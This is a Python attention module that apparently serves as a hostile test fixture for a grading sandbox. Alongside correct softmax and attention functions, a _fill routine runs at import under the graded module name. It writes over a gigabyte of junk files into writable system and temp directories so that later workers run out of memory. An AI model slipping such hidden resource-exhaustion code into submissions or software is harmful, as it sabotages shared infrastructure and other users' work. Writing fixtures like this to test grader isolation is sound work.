"""At import, fills every directory it can write to (up to 1264 MiB in all, in files of
8 MiB), and leaves the files there: a sandbox whose root is a writable tmpfs keeps them in
the memory of every later worker of the job, until one is killed for memory. The head
itself is the lesson's, so it keeps full marks; those graded after it must too."""
# must-fail:
# must-pass: *
# report-status: graded

import os
import sys

import numpy as np

CHUNK = b"\0" * (1024 * 1024)
TOTAL_CAP = 1264  # MiB: nearly a whole sandbox's memory (1280 MiB), without filling a real disk


def _fill():
    if __name__ != "attention":
        return  # only as a graded submission
    written = 0
    folders = ["/", "/opt", "/opt/grader-site", "/etc", "/dev", "/var", "/home", "/tmp", "/dev/shm", "/var/tmp",
               os.getcwd(), *[p for p in sys.path if p]]
    for folder in dict.fromkeys(folders):
        if _nearly_full_disk(folder):
            continue  # a test machine's own disk: not this test's to fill
        number = 0
        while written < TOTAL_CAP:
            try:
                with open(os.path.join(folder, f"hostile-fill-{number}.bin"), "wb") as stream:
                    for _ in range(8):
                        stream.write(CHUNK)
                        written += 1
            except OSError:
                break
            number += 1


def _nearly_full_disk(folder):
    """A large file system (a disk, not a sandbox's tmpfs) with little room to spare."""
    try:
        found = os.statvfs(folder)
    except OSError:
        return False
    total, free = found.f_blocks * found.f_frsize, found.f_bavail * found.f_frsize
    return total > 4 * 1024**3 and free < (TOTAL_CAP + 2048) * 1024**2


_fill()


def softmax(x, axis=-1):
    x = x - x.max(axis=axis, keepdims=True)
    e = np.exp(x)
    return e / e.sum(axis=axis, keepdims=True)


def attention(Q, K, V, mask=None):
    d_k = Q.shape[-1]
    scores = (Q @ np.swapaxes(K, -1, -2)) / np.sqrt(d_k)
    if mask is not None:
        scores = np.where(mask, scores, -np.inf)
    A = softmax(scores, axis=-1)
    return A @ V, A


def self_attention(X, Wq, Wk, Wv, mask=None):
    return attention(X @ Wq, X @ Wk, X @ Wv, mask)


def causal_mask(n):
    return np.tril(np.ones((n, n), dtype=bool))
